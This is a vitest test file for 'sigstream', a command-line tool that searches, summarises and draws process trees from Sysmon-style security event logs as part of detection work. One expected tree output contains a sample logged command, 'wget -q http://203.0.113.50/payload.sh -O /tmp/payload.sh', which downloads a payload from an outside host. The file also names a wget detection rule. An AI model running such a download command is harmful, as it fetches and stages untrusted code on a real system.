/** The investigation verbs as a user runs them (issue 15 "Must show"): search --save-rule round trip, stats on the demo, tree on the wget sample. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sigstream } from '../helpers/cli.js';

const dir = mkdtempSync('/tmp/sigstream-investigate-');
const DEMO = 'samples/demo.ndjson';
const WGET = 'samples/linux-wget.ndjson';

/** The input lines of the events behind NDJSON hits, in order. */
function eventLines(stdout: string): number[] {
  return stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l).source.line as number);
}

describe('sigstream search', () => {
  it.each([
    { name: 'criteria joined by --any, with a raw FIELD=VALUE', args: ['--any', '--process', 'powershell.exe', '--port', '445', 'User=CORP\\carol'] },
    { name: 'criteria joined by --all', args: ['--all', '--process', 'svchost.exe', '--ip', '10.*'] },
    { name: 'hash, registry and DNS criteria', args: ['--any', '--registry-key', '*\\CurrentVersion\\Run*', '--host', '*.example', '--file', '*.ps1'] },
  ])('--save-rule round trip ($name): the saved rule, run over the same input, finds the same events', ({ args }) => {
    const rule = join(dir, `saved-${args.length}.yml`);
    const search = sigstream(['search', ...args, '--save-rule', rule, DEMO]);
    expect(search.status).toBe(0);
    const found = eventLines(search.stdout);
    expect(found.length).toBeGreaterThan(0);
    expect(search.stderr).toContain(`events read 962, skipped 0, matched ${found.length}`);
    const lint = sigstream(['lint', rule]);
    expect(lint.status).toBe(0);
    expect(lint.stdout).toMatch(/2 rules loaded .*0 rejected/);
    const run = sigstream(['run', '-r', rule, DEMO]);
    expect(run.status).toBe(0);
    expect([...new Set(eventLines(run.stdout))]).toEqual(found);
  });

  it('says what is wrong with a criterion, with exit 2', () => {
    const r = sigstream(['search', '--ip', '', DEMO]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/--ip : empty value \[search-criterion\]/);
    expect(sigstream(['search', '--all', '--any', '--ip', '1.2.3.4', DEMO]).status).toBe(2);
    expect(sigstream(['search', '-o', 'nope', '--ip', '1.2.3.4', DEMO]).stderr).toMatch(/unknown writer 'nope'/);
  });

  it('skips and counts a bad record, and goes on', () => {
    const input = ['{"EventID":3,"DestinationPort":"445"}', '{"EventID":', '{"EventID":3,"DestinationPort":"445"}'].join('\n');
    const r = sigstream(['search', '--port', '445'], input);
    expect(r.status).toBe(0);
    expect(r.stdout.trim().split('\n')).toHaveLength(2);
    expect(r.stderr).toMatch(/-:2:\d+: error: .*\[bad-json\]/);
    expect(r.stderr).toContain('events read 2, skipped 1, matched 2');
    expect(sigstream(['search', '--strict', '--port', '445'], input).status).toBe(1);
  });
});

describe('sigstream stats', () => {
  it('counts the demo per host by category and EventID, with top and rarest values (checked by hand)', () => {
    const r = sigstream(['stats', '--by', 'host', '--top', '3', '--json', DEMO]);
    expect(r.status).toBe(0);
    const stats = JSON.parse(r.stdout);
    expect(stats.events).toBe(962);
    expect(stats.groups.map((g: { key: { host: string }; events: number }) => [g.key.host, g.events])).toEqual([
      ['build02.corp.example', 79], ['db01.corp.example', 104], ['FS01.corp.example', 141], ['SRV-APP01.corp.example', 135],
      ['web01.corp.example', 99], ['WS017.corp.example', 128], ['WS042.corp.example', 153], ['WS108.corp.example', 123],
    ]);
    const ws042 = stats.groups.find((g: { key: { host: string } }) => g.key.host === 'WS042.corp.example');
    // EventIDs 1:62 3:26 13:21 22:18 11:16 7:9 10:1, counted with a one-off script over the file.
    expect(ws042.eventIds).toEqual({ 1: 62, 3: 26, 7: 9, 10: 1, 11: 16, 13: 21, 22: 18 });
    expect(ws042.categories).toEqual({ process: 62, network: 26, registry: 21, dns: 18, file: 16, 'image-load': 9, 'process-access': 1 });
    expect(ws042.top.Image).toEqual([
      ['C:\\Windows\\System32\\svchost.exe', 33],
      ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 30],
      ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 12],
    ]);
    expect(ws042.top.DestinationPort).toEqual([['443', 9], ['445', 6], ['80', 4]]);
    expect(ws042.rarest.Image[0][1]).toBe(1);
  });

  it('groups by host and day by default, as a text table', () => {
    const r = sigstream(['stats', DEMO]);
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/^962 events, 2026-11-20T08:00:00\.\d+Z \.\. 2026-11-20T08:59:53\.877Z; 8 groups by host, day/);
    expect(r.stdout).toContain('host WS042.corp.example | day 2026-11-20: 153 events');
    expect(r.stdout).toContain('  by EventID:  1 62, 3 26, 7 9, 10 1, 11 16, 13 21, 22 18');
  });

  it('rejects an unknown --by key', () => {
    const r = sigstream(['stats', '--by', 'colour', DEMO]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/unknown key 'colour'/);
  });
});

describe('sigstream tree', () => {
  const WGET_GUID = '{5a6c5f3c-0020-6630-c8e5-0a0000000000}';
  it('prints the wget sample\'s process with its parent and activity', () => {
    const r = sigstream(['tree', '--guid', WGET_GUID, WGET]);
    expect(r.status).toBe(0);
    expect(r.stdout).toBe(
      [
        `process tree around ${WGET_GUID} on web01`,
        '/usr/bin/bash [pid 1022] {5a6c5f3c-0001-6630-c8e5-0a0000000000} (no creation event): -bash',
        `└─ ▶ /usr/bin/wget [pid 2210] ${WGET_GUID}: wget -q http://203.0.113.50/payload.sh -O /tmp/payload.sh`,
        '     · network         3  tcp 203.0.113.50:80',
        '     · file           11  /tmp/payload.sh',
        '     · process         5  terminated',
        '',
        '',
      ].join('\n'),
    );
  });

  it('centred on the parent, shows every child; --hits marks the processes with hits', () => {
    const hits = join(dir, 'wget-hits.ndjson');
    const run = sigstream(['run', '-r', 'rules', WGET]);
    writeFileSync(hits, run.stdout);
    const r = sigstream(['tree', '--guid', '{5a6c5f3c-0001-6630-c8e5-0a0000000000}', '--hits', hits, WGET]);
    expect(r.status).toBe(0);
    const processLines = r.stdout.split('\n').filter((l) => l.includes('[pid'));
    expect(processLines).toHaveLength(1 + 9); // bash and its nine children (the sample's two hosts share the parent GUID)
    const marked = processLines.filter((l) => l.includes('← hits: Wget Download Followed By Network Connection'));
    expect(marked.map((l) => /\{[^}]+\}/.exec(l)![0])).toEqual(['{5a6c5f3c-0020-6630-c8e5-0a0000000000}', '{5a6c5f3c-0033-6630-c8e5-0a0000000000}']);
  });

  it('says so when no event names the process', () => {
    const r = sigstream(['tree', '--guid', '{nope}', WGET]);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('no event of the inputs names process {nope}');
  });
});

